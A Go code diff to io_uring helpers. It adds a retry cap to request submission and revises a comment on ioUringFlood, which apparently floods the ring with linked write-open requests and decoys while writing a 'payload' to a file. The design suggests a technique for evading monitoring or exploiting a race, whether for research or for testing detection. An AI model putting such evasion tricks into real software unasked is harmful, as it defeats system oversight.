@@ -152,13 +152,16 @@ func (r *ring) queue(es []sqe) error {
 		*r.u32(r.sq, r.p.SQOff.Array+idx*4) = idx
 	}
 	atomic.StoreUint32(r.u32(r.sq, r.p.SQOff.Tail), tail+uint32(len(es)))
-	for left := uintptr(len(es)); left > 0; {
+	for left, tries := uintptr(len(es)), 0; left > 0; tries++ {
 		n, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), left, 0, 0, 0, 0)
 		switch {
-		case errno == 0 && n > 0:
+		case errno == 0:
 			left -= min(n, left)
-		case errno != 0 && errno != unix.EINTR && errno != unix.EAGAIN && errno != unix.EBUSY:
+		case errno != unix.EINTR && errno != unix.EAGAIN && errno != unix.EBUSY:
 			return fmt.Errorf("io_uring_enter: %w", errno)
+		}
+		if tries == 1000 {
+			return fmt.Errorf("io_uring_enter: %d of %d requests still not taken", left, len(es))
 		}
 	}
 	return nil
@@ -310,8 +313,8 @@ func ioUringDecoys(path string, async bool) error {
 const floodLinks = 20000
 
 // ioUringFlood keeps floodLinks requests that may open a file for writing in flight, linked behind a read of an
-// empty pipe that never completes; meanwhile it opens path for writing and writes the payload into it, in io-wq
-// workers, with ioUringDecoys. Closing the ring cancels the chain.
+// empty pipe; meanwhile it opens path for writing and writes the payload into it, in io-wq workers, with
+// ioUringDecoys. The chain fails when the pipe closes (the read ends short) and with the ring.
 func ioUringFlood(path string) error {
 	r, err := newRingOf(32768)
 	if err != nil {
